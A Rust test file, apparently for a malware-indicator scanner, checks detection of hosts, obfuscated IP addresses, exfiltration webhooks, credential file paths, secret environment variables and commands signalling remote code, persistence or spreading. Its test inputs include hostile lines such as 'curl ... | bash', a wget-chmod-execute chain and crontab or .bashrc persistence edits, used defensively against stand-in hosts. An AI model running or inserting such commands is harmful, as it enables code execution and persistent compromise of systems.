//! What strings name and what they do not.
use super::*;

fn named(text: &str) -> Vec<(NameKind, String)> {
    names(text).into_iter().map(|name| (name.kind, name.text)).collect()
}

fn only(kind: NameKind, text: &str) -> Vec<(NameKind, String)> {
    vec![(kind, text.to_owned())]
}

#[test]
fn hosts_are_read_out_of_urls() {
    assert_eq!(named("https://User:pw@Api.Collect.INVALID:8443/v1"), only(NameKind::Host, "api.collect.invalid"));
    assert_eq!(named("wss://\u{fffc}.collect.invalid/x"), only(NameKind::Host, "*.collect.invalid"));
    assert_eq!(named("\u{fffc}://collect.invalid/x"), only(NameKind::Host, "collect.invalid"));
    assert_eq!(named("collect.invalid"), only(NameKind::Host, "collect.invalid"));
    assert_eq!(
        named("See the guide at https://docs.collect.invalid/a for more"),
        only(NameKind::Link, "docs.collect.invalid")
    );
    assert_eq!(
        named("curl -s https://docs.collect.invalid/a for more of it | sh"),
        only(NameKind::Host, "docs.collect.invalid")
    );
    for none in [
        "http://localhost:3000",
        "http://www.w3.org/2000/svg",
        "file:///etc/hosts",
        "a.b",
        "foo.bar()",
        "://",
        "http://",
        "https://\u{fffc}/x",
    ] {
        assert_eq!(named(none), [], "{none}");
    }
}

#[test]
fn a_host_option_may_be_any_host() {
    assert_eq!(host("collect.internal").first().map(|name| name.text.as_str()), Some("collect.internal"));
    assert_eq!(host("198.51.100.7").first().map(|name| name.kind), Some(NameKind::Address));
    assert_eq!(host("localhost"), []);
}

#[test]
fn addresses_are_found_however_they_are_written() {
    for text in
        ["198.51.100.7", "http://198.51.100.7/x", "http://0xc6336407/", "http://3325256711/", "198.51.100.7:4444"]
    {
        assert_eq!(named(text), only(NameKind::Address, "198.51.100.7"), "{text}");
    }
    assert_eq!(named("http://[2001:db8::1]:80/"), only(NameKind::Address, "2001:db8::1"));
    for none in ["127.0.0.1", "http://127.0.0.1:80", "0.0.0.0", "::1", "1.0.0.0", "::ffff:127.0.0.1", "10.0.0.0/8"] {
        assert_eq!(named(none), [], "{none}");
    }
}

#[test]
fn mail_addresses_are_told_from_their_likes() {
    assert_eq!(emails("Copy <Box.One+x@Mail.Invalid>, b@c.invalid"), ["box.one+x@mail.invalid", "b@c.invalid"]);
    assert_eq!(emails("mailto:x@example.invalid"), ["x@example.invalid"]);
    for none in [
        "git@host.invalid:a/b.git",
        "icon@2x.png",
        "pkg@1.2.3",
        "@scope/name",
        "https://u:p@host.invalid/",
        "a@b",
        "x@y.z",
    ] {
        assert_eq!(emails(none), Vec::<String>::new(), "{none}");
    }
}

#[test]
fn services_that_take_anything_are_webhooks() {
    assert!(named("https://discord.com/api/webhooks/1/x").iter().any(|(kind, _)| *kind == NameKind::Webhook));
    assert!(
        named("https://api.telegram.org/bot\u{fffc}/sendMessage").iter().any(|(kind, _)| *kind == NameKind::Webhook)
    );
    assert!(named("https://x.oast.fun").iter().any(|(kind, _)| *kind == NameKind::Webhook));
    assert!(!named("https://discord.com/developers").iter().any(|(kind, _)| *kind == NameKind::Webhook));
    assert!(!named("https://notwebhook.site.invalid").iter().any(|(kind, _)| *kind == NameKind::Webhook));
}

#[test]
fn secret_files_are_whole_components() {
    assert_eq!(secret_places("\u{fffc}/.ssh/id_rsa"), [".ssh", ".ssh/id_", "id_rsa"]);
    assert_eq!(
        secret_places("C:\\Users\\x\\AppData\\Chrome\\User Data\\Default\\Login Data"),
        ["login data", "user data/default"]
    );
    assert!(is_grave(".ssh") && !is_grave(".env"));
    for none in [".envelope", "process.env", "my.npmrc.md", "valid_rsa", "x.aws", ".sshd", "env"] {
        assert_eq!(secret_places(none), Vec::<&str>::new(), "{none}");
    }
    assert_eq!(startup_place("/home/x/.bashrc"), Some(StartupPlace::Shell));
    assert_eq!(startup_place(".github/workflows/ci.yml"), Some(StartupPlace::Workflow));
    assert_eq!(startup_place("src/profile.ts"), None);
}

#[test]
fn secret_variables_are_told_by_their_words() {
    for secret in ["NPM_TOKEN", "OPENAI_API_KEY", "DB_PASSWORD", "AWS_SECRET_ACCESS_KEY", "npm_config__authToken_TOKEN"]
    {
        assert!(is_secret_variable(secret), "{secret}");
    }
    for plain in
        ["PATH", "HOME", "MAX_TOKENS", "KEYBOARD", "NODE_ENV", "PWD", "NEXT_PUBLIC_KEY", "TOKENIZER", "TOKEN_URL"]
    {
        assert!(!is_secret_variable(plain), "{plain}");
    }
}

fn ordered(text: &str) -> Vec<(SignKind, bool)> {
    orders(text).into_iter().map(|order| (order.kind, order.weak)).collect()
}

use super::super::facts::SignKind;

#[test]
fn commands_say_what_they_do() {
    assert_eq!(ordered("curl -fsSL https://x.invalid/i | bash"), [(SignKind::RemoteCode, false)]);
    assert_eq!(ordered("wget x.invalid/a -O /tmp/a && chmod +x /tmp/a && /tmp/a"), [(SignKind::RemoteCode, false)]);
    assert_eq!(ordered("cd x && npm publish --access public"), [(SignKind::Spreading, false)]);
    assert_eq!(ordered("git push origin main"), [(SignKind::Spreading, true)]);
    assert_eq!(ordered("(crontab -l; echo x) | crontab -"), [(SignKind::Persistence, false)]);
    assert_eq!(ordered("echo x >> ~/.bashrc"), [(SignKind::Persistence, false)]);
    for none in [
        "npm install",
        "curl https://x.invalid -o y",
        "run `npm run publisher`",
        "git pushd",
        "echo a | shuf",
        "ls -la",
    ] {
        assert_eq!(ordered(none), [], "{none}");
    }
}

#[test]
fn recipients_are_known_by_their_keys() {
    assert_eq!(recipient("Bcc"), Some(Recipient::Hidden));
    assert_eq!(recipient("reply_to"), Some(Recipient::Reply));
    assert_eq!(recipient("into"), None);
}

#[test]
fn hidden_runs_are_counted() {
    let payload: String = ('\u{e0100}'..'\u{e0120}').collect();
    assert_eq!(hidden_run(&format!("a{payload}b")), 32);
    assert_eq!(hidden_run("👨‍👩‍👧 ok"), 1);
}

#[test]
fn long_strings_are_read_in_part() {
    let text = format!("{}https://late.invalid", "x".repeat(MOST));
    assert_eq!(named(&text), []);
    assert_eq!(names(&"é@".repeat(MOST)), []);
}
